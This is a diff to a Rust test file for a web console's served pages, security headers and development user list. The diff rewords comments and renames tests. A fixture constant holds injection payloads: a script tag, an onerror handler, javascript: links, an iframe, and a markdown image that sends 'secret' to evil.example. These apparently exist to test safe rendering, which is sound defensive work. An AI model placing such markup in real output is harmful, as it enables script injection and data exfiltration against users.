@@ -1,5 +1,5 @@
-//! The browser console: what the server sends for it, and the tests in Chromium (`crates/console/web/e2e`), which need
-//! `cargo xtask ui-test`.
+//! The browser console: the pages and headers that the server sends, and the tests in Chromium
+//! (`crates/console/web/e2e`), which need `cargo xtask ui-test`.
 
 use crate::support::app::{TENANT_A, TestApp};
 use crate::support::files;
@@ -11,16 +11,16 @@ use serde_json::Value;
 use std::time::Duration;
 use tokio::process::Command;
 
-/// The tenant whose users the development list shows.
+/// The tenant whose users `GET /v1/development/users` lists.
 const DEMO_TENANT: &str = "demo-plant";
 const DOCUMENTS: &[&str] = &["MAN-P101-feedwater-pump-manual.pdf", "LOTO-002-lockout-tagout.docx"];
-/// Words and markup with which a document or a model could attack a page.
+/// An answer with markup and links that could attack a page.
 const HOSTILE: &str = "Please look at this [1]. <img src=\"https://evil.example/a.png\" onerror=\"window.pwned=1\"> \
     ![x](https://evil.example/b.png?d=secret) <script>window.pwned=1</script> [click](javascript:window.pwned=1) \
     [here](https://evil.example/c) <iframe src=\"https://evil.example/d\"></iframe> https://evil.example/e\n\n\
     <form action=\"https://evil.example/f\"><button>Send</button></form>";
 
-/// How the scripted model answers the questions of the browser tests.
+/// The reply of the scripted model to a question of the browser tests.
 fn reply(question: &str) -> Reply {
     let is_about = |word: &str| question.contains(word);
     if is_about("SLOWLY") {
@@ -70,7 +70,7 @@ async fn the_browser_tests_pass() {
 }
 
 #[tokio::test]
-async fn the_page_names_its_policy_and_the_settings_of_the_sign_in() {
+async fn the_console_is_served_with_a_content_security_policy() {
     let settings = [
         ("OIDC_ISSUER", "http://127.0.0.1:9/realms/plant"),
         ("OIDC_AUDIENCE", "api"),
@@ -78,7 +78,7 @@ async fn the_page_names_its_policy_and_the_settings_of_the_sign_in() {
     ];
     let app = TestApp::start(&settings).await;
     let root = app.http.get(format!("{}/", app.base_url)).send().await.expect("an answer");
-    assert_eq!(root.url().path(), "/ui/", "GET / leads to the console");
+    assert_eq!(root.url().path(), "/ui/", "GET / redirects to the console");
     let policy = root.headers()["content-security-policy"].to_str().expect("ASCII").to_owned();
     assert!(policy.contains("connect-src 'self' http://127.0.0.1:9;") && !policy.contains("unsafe"), "{policy}");
     let deep_link = app.without_token().get("/ui/documents/any?page=3").await;
@@ -87,7 +87,7 @@ async fn the_page_names_its_policy_and_the_settings_of_the_sign_in() {
 }
 
 #[tokio::test]
-async fn the_development_list_has_the_active_users_of_the_demo_tenant_and_signs_in_as_them() {
+async fn the_development_list_has_the_active_users_of_the_demo_tenant_and_issues_their_tokens() {
     let app = TestApp::start(&[]).await;
     let listed = app.without_token().get("/v1/development/users").await.expect_json(200);
     assert_eq!(listed["data"], Value::Array(Vec::new()), "there is no demo tenant yet");
@@ -110,8 +110,8 @@ async fn the_development_list_has_the_active_users_of_the_demo_tenant_and_signs_
     app.without_token().post(&path(&other), &Value::Null).await.expect_problem(404, "not_found");
 
     let ana = app.caller(DEMO_TENANT, "ana", Role::Admin);
-    let switched_off = serde_json::json!({ "is_active": false });
-    ana.patch(&format!("/v1/admin/users/{}", id(&kim)), &switched_off).await.expect_json(200);
+    let deactivation = serde_json::json!({ "is_active": false });
+    ana.patch(&format!("/v1/admin/users/{}", id(&kim)), &deactivation).await.expect_json(200);
     app.without_token().post(&path(&kim), &Value::Null).await.expect_problem(404, "not_found");
     let listed = app.without_token().get("/v1/development/users").await.expect_json(200);
     assert_eq!(names(&listed), ["ana", "founder"]);
